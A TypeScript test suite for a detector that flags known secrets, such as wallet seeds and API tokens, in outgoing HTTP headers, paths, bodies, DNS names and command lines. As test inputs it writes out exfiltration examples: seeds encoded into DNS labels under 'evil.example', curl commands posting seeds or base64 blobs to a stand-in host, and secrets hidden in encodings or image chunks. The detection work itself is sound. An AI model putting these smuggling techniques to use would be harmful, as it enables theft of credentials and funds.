import assert from 'node:assert/strict';
import { once } from 'node:events';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterEach, beforeEach, describe, it } from 'node:test';
import {
  bodyOfInit,
  carriedByBody,
  carriedByCommand,
  carriedByHttp,
  carriedByHttpBody,
  carriedByName,
  carriedByUndici,
} from '../../instrumentations/carried-secrets.ts';
import { forgetSecrets, secretMarks } from '../../src/secrets/known-secrets.ts';

const SEED = 'sEdTM1uX8pu2do5XvTnutH6HsouMaM2';
const HALF = '7345645448315558387075326446355876';
/* RFC 4648, from its definition. */
function base32(text: string): string {
  const bits = [...Buffer.from(text)].map((byte) => byte.toString(2).padStart(8, '0')).join('');
  const digits = bits.match(/.{5}/g) ?? [];
  return digits.map((five) => 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567'[Number.parseInt(five, 2)]).join('');
}
const where = (request: object) => carriedByUndici(request)?.where;

describe('a secret in a request', () => {
  beforeEach(() => {
    const source = { name: '<app>/seed.txt', family: 'wallet', setting: '' };
    secretMarks.mark(SEED, source);
    secretMarks.mark(HALF, source);
    secretMarks.mark('zoo zoo zoo zoo wrong', source);
  });
  afterEach(forgetSecrets);

  it('is found in the headers of undici, as a list and as text', () => {
    assert.equal(where({ path: '/', headers: ['accept', '*/*', 'x-trace', SEED] }), 'the header x-trace');
    assert.equal(where({ path: '/', headers: ['x-many', ['a', `b=${SEED};`]] }), 'the header x-many');
    assert.equal(where({ path: '/', headers: `accept: */*\r\nx-trace: ${SEED}\r\n` }), 'the header x-trace');
    assert.equal(where({ path: '/', headers: ['x-trace', 'zoo zoo zoo zoo wrong'] }), 'the header x-trace');
  });

  it('is found in the path and in the query, as they are written and as they are meant', () => {
    assert.equal(where({ path: `/v1/${SEED}/balance` }), 'the path');
    assert.equal(where({ path: `/v1?a=1&ref=${SEED}` }), 'the query ref');
    assert.equal(where({ path: '/v1?ref=zoo%20zoo%20zoo%20zoo%20wrong' }), 'the query ref');
    assert.equal(where({ path: `/v1?${SEED}` }), 'the query');
  });

  it('is none in what is made for one, and does not hide another', () => {
    const headers = ['authorization', `Bearer ${SEED}`, 'cookie', `a=${SEED}`, 'Host', SEED];
    assert.equal(where({ path: `/?apikey=${SEED}`, headers }), undefined);
    assert.equal(where({ path: `/?apikey=${SEED}&ref=${SEED}` }), 'the query ref');
    assert.equal(where({ headers: [...headers, 'x-session-id', HALF] }), 'the header x-session-id');
    assert.equal(where({ headers: `authorization: ${SEED}\r\nx-session-id: ${HALF}\r\n` }), 'the header x-session-id');
  });

  it('is not told as the name of a header or a parameter', () => {
    assert.equal(where({ headers: [`x-${SEED}`, SEED] }), 'the header');
    assert.equal(where({ headers: ['x'.repeat(41), SEED] }), 'the header');
    assert.equal(where({ path: `/?${HALF}=${SEED}` }), 'the query');
  });

  it('is found in node:http before and after its headers are written', () => {
    for (const headers of [{ 'x-trace': SEED }, { 'x-trace': ['a', SEED] }, ['Host', 'a', 'x-trace', SEED]]) {
      const request = http.request({ host: '127.0.0.1', port: 1, path: '/?a=1', headers, agent: false });
      request.on('error', () => {});
      assert.equal(carriedByHttp(request)?.where, 'the header x-trace');
      request.flushHeaders();
      assert.equal(carriedByHttp(request)?.where, 'the header x-trace');
      request.destroy();
    }
    const request = http.request({ host: '127.0.0.1', port: 1, path: `/?ref=${SEED}`, agent: false });
    request.on('error', () => {});
    assert.equal(carriedByHttp(request)?.where, 'the query ref');
    request.flushHeaders();
    assert.equal(carriedByHttp(request)?.where, 'the query ref');
    request.destroy();
  });

  it('is found in text of another encoding in a header, a path and a query', () => {
    const blob = Buffer.from(JSON.stringify({ host: 'build-7', k: SEED })).toString('base64');
    assert.equal(where({ path: '/', headers: ['x-usage', blob] }), 'the field k of the header x-usage');
    assert.equal(where({ path: '/', headers: `x-usage: ${blob}\r\n` }), 'the field k of the header x-usage');
    assert.equal(where({ path: `/?u=${encodeURIComponent(blob)}` }), 'the field k of the query u');
    assert.equal(where({ path: `/${Buffer.from(`a:${SEED}:b`.padEnd(60)).toString('hex')}/x` }), 'the path');
    assert.equal(where({ path: '/', headers: ['authorization', blob] }), undefined);
    assert.equal(where({ path: '/', headers: ['x-image', Buffer.alloc(90, 'abc').toString('base64')] }), undefined);
  });

  const inBody = (body: unknown) => carriedByBody(body)?.where;

  it('is found in a body: a text, JSON, a form, or any of them encoded', () => {
    assert.equal(inBody(SEED), 'the body');
    assert.equal(inBody(`user:root|${'x'.repeat(30)}|k=${SEED}`), 'the body');
    assert.equal(inBody(JSON.stringify({ a: [{ note: SEED }] })), 'the field note of the body');
    assert.equal(inBody(JSON.stringify({ a: `id=7 k=${SEED}` })), 'the field a of the body');
    assert.equal(inBody(JSON.stringify({ data: JSON.stringify({ k: SEED }) })), 'the field k of the body');
    assert.equal(inBody(`a=1&k=${SEED}`), 'the field k of the body');
    assert.equal(inBody(`a=1&k=${encodeURIComponent('zoo zoo zoo zoo wrong')}`), 'the field k of the body');
    assert.equal(inBody(new URLSearchParams({ a: '1', k: SEED })), 'the field k of the body');
    for (const encoding of ['base64', 'base64url', 'hex'] as const) {
      const text = Buffer.from(JSON.stringify({ host: 'build-7', k: SEED })).toString(encoding);
      assert.equal(inBody(text), 'the field k of the body', encoding);
      assert.equal(inBody(JSON.stringify({ d: text })), 'the field k of the body', encoding);
    }
    const blob = Buffer.from(JSON.stringify({ host: 'build-7', at: 'somewhere in the house', k: SEED })).toString(
      'base64',
    );
    assert.equal(inBody(Buffer.from(`\x89PNG\0tEXtComment\0${blob}\0IEND`, 'latin1')), 'the field k of the body');
    assert.equal(inBody(`${'word of a long text\n'.repeat(2_000)}${SEED}\n`), 'the body');
    const short = Buffer.from(`k:${SEED.padEnd(35)}`).toString('base64');
    assert.equal(inBody(short), 'the body', 'with padding, as a form ends');
    const lines = Buffer.from(JSON.stringify({ host: 'build-7', k: SEED, x: 'x'.repeat(100) })).toString('base64');
    assert.equal(inBody(`${lines.replace(/.{76}/g, '$&\r\n')}\n`), 'the field k of the body');
    for (const bytes of [Buffer.from(SEED), new Uint8Array(Buffer.from(SEED)), new TextEncoder().encode(SEED).buffer])
      assert.equal(inBody(bytes), 'the body');
  });

  it('is none in the field of a body that is made for one, unless no service asks for it', () => {
    secretMarks.mark('sk-0123456789abcdef', { name: 'SHOP_API_KEY', family: 'environment', setting: 'SHOP_API_KEY' });
    secretMarks.mark('npm_0123456789abcdef', { name: 'NPM_TOKEN', family: 'npm', setting: 'NPM_TOKEN' });
    for (const field of ['client_secret', 'password', 'pass', 'apiKey', 'access_token', 'url']) {
      assert.equal(inBody(JSON.stringify({ [field]: 'sk-0123456789abcdef' })), undefined, field);
      assert.equal(inBody(`a=1&${field}=sk-0123456789abcdef`), undefined, field);
      assert.equal(inBody(`${field}=npm_0123456789abcdef`), `the field ${field} of the body`);
    }
  });

  it('is not told of by itself where the name of its field cannot be told, but is among several', () => {
    const value = (i: number) => `value-number-${i}-abcdefgh`;
    for (const [i, name] of ['A', 'B', 'C', 'D', 'E'].entries())
      secretMarks.mark(value(i), { name, family: 'environment', setting: name });
    secretMarks.mark('npm_0123456789abcdef', { name: 'NPM_TOKEN', family: 'npm', setting: 'NPM_TOKEN' });
    const call = (...values: string[]) => JSON.stringify({ method: 'login', params: ['bob', ...values] });
    assert.equal(inBody(call(value(0))), undefined);
    assert.equal(inBody(`<call><string>${value(0)}</string></call>`), undefined);
    assert.equal(inBody(`--x\r\ncontent-disposition: form-data; name="token"\r\n\r\n${value(0)}`), undefined);
    const long = JSON.stringify({ password: value(0), file: 'x y '.repeat(20_000) });
    assert.equal(inBody(long), undefined, 'half of a JSON');
    const four = Object.fromEntries([0, 1, 2, 3].map((i) => [`KEY_${i}`, value(i)]));
    assert.equal(inBody(JSON.stringify(four)), undefined);
    assert.equal(inBody(JSON.stringify({ ...four, KEY_4: value(4) })), 'the body, with 4 more,');
    secretMarks.mark('sk-0123456789abcdef', { name: 'OPENAI_API_KEY', family: 'openai', setting: 'OPENAI_API_KEY' });
    assert.equal(inBody(call('sk-0123456789abcdef')), undefined);
    assert.equal(inBody(call('sk-0123456789abcdef', 'npm_0123456789abcdef')), 'the body, with 1 more,');
  });

  it('is found in the labels of a name: whole, encoded, or the beginning of it', () => {
    const byName = (name: string) => carriedByName(name)?.where;
    secretMarks.markStart(SEED, { name: 'SEED', family: 'wallet', setting: '' });
    const hex = Buffer.from(SEED).toString('hex');
    for (const label of [
      SEED,
      hex.slice(0, 30),
      Buffer.from(`k=${SEED}`).toString('base64url').slice(0, 40),
      base32(SEED),
    ])
      assert.equal(byName(`${label}.0.evil.example`), 'a DNS label', label);
    assert.equal(byName(`${base32(SEED).toLowerCase()}.evil.example`), 'a DNS label');
    assert.equal(byName(`${hex.slice(0, 14)}.${hex.slice(14, 28)}.evil.example`), 'the DNS labels');
    for (const name of [
      '',
      '.',
      'a.b',
      `${hex.slice(8, 40)}.evil.example`,
      'selector1-long-name._domainkey.example.com',
    ])
      assert.equal(byName(name), undefined, name);
  });

  it('is found in a command line where nothing says that one belongs there', () => {
    const byCommand = (...argv: string[]) => carriedByCommand(argv)?.where;
    const json = JSON.stringify({ k: SEED });
    const blob = Buffer.from(`{"host":"build-7","k":"${SEED}"}`).toString('base64');
    assert.equal(byCommand('curl', '-d', SEED, 'https://a.example'), 'the command line');
    assert.equal(byCommand('curl', '-d', json, 'https://a.example'), 'the field k of the command line');
    assert.equal(byCommand('curl', `https://a.example/?k=${SEED}`), 'the query k');
    assert.equal(byCommand('sh', '-c', `curl -s -d '${json}' https://a.example`), 'the field k of the command line');
    assert.equal(
      byCommand('sh', '-c', `curl -s "https://a.example/?d=${blob}" >/dev/null`),
      'the field k of the query d',
    );
    for (const argv of [
      ['curl', '-H', `Authorization: Bearer ${HALF}`, 'https://a.example'],
      ['sh', '-c', `curl -H "X-Api-Key: ${HALF}" https://a.example`],
      ['tool', '--token', HALF],
      ['curl', '-u', `bob:${HALF}`],
      ['git', 'push', `https://x-access-token:${HALF}@git.example/a.git`],
      ['curl', 'https://a.example', '--data', 'nothing'],
      ['curl', `https://a.example/?api_key=${HALF}`],
      ['curl', 'https://a.example'],
      [],
    ])
      assert.equal(byCommand(...argv), undefined, argv.join(' '));
  });

  it('is found in a body that node:http has not sent yet', async () => {
    const server = http.createServer((_request, response) => response.end());
    await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening));
    const { port } = server.address() as AddressInfo;
    const agent = new http.Agent({ keepAlive: true });
    const json = JSON.stringify({ k: SEED });
    const half = json.length >> 1;
    for (const write of [
      (request: http.ClientRequest) => request.end(json),
      (request: http.ClientRequest) => request.end(Buffer.from(json)),
      (request: http.ClientRequest) => request.write(json) && request.end(),
      (request: http.ClientRequest) => request.write(json.slice(0, half)) && request.end(json.slice(half)),
    ]) {
      for (let again = 0; again < 2; again++) {
        const request = http.request({ port, host: '127.0.0.1', method: 'POST', agent });
        const answered = once(request, 'response');
        write(request);
        assert.equal(carriedByHttpBody(request)?.where, 'the field k of the body', String(write));
        (await answered)[0].resume();
      }
    }
    agent.destroy();
    server.close();
  });

  it('is looked for without running anything of the caller', () => {
    const fail = (): never => assert.fail('ran');
    const trap = new Proxy([], { get: fail, getOwnPropertyDescriptor: fail, ownKeys: fail });
    const value = { toString: fail, [Symbol.toPrimitive]: fail };
    assert.equal(where({ path: value, headers: trap }), undefined);
    assert.equal(where({ path: '/', headers: ['x-trace', value, 'x-many', trap, 'x-all', [value]] }), undefined);
    for (const body of [trap, value, () => {}, new Proxy({}, { get: fail }), { [Symbol.iterator]: fail }])
      assert.equal(carriedByBody(body), undefined);
    assert.equal(bodyOfInit(Object.defineProperty({}, 'body', { get: fail })), undefined);
    assert.equal(bodyOfInit(new Proxy({}, { getOwnPropertyDescriptor: fail })), undefined);
    const getters = Object.defineProperties({}, { path: { get: fail }, headers: { get: fail } });
    assert.equal(where(getters), undefined);
    assert.equal(
      carriedByHttp(Object.defineProperties({}, { _header: { get: fail }, path: { get: fail } })),
      undefined,
    );
  });

  it('keeps its place in garbage', () => {
    for (const path of ['', '?', '&&&&', `/%zz${SEED}`, `?=${SEED}`, '/'.repeat(70_000), `/?a=${'%'.repeat(40)}`]) {
      for (const headers of [undefined, null, '', ':', '\r\n\r\n', 'x', [], ['x'], [1, 2], [SEED]]) {
        assert.doesNotThrow(() => carriedByUndici({ path, headers }));
        assert.doesNotThrow(() => carriedByHttp({ path, _header: headers }));
        assert.doesNotThrow(() => carriedByHttpBody({ outputData: [{ data: `${path}\r\n\r\n` }, { data: headers }] }));
      }
    }
    const nested = `${'[{"a":'.repeat(2_000)}"${SEED}"${'}]'.repeat(2_000)}`;
    for (const body of [
      nested,
      '{"a":',
      '[',
      '%',
      'a=%zz',
      `{"__proto__":{"k":"${'y'.repeat(40)}"}}`,
      'A'.repeat(70_000),
    ])
      assert.doesNotThrow(() => carriedByBody(body));
  });
});
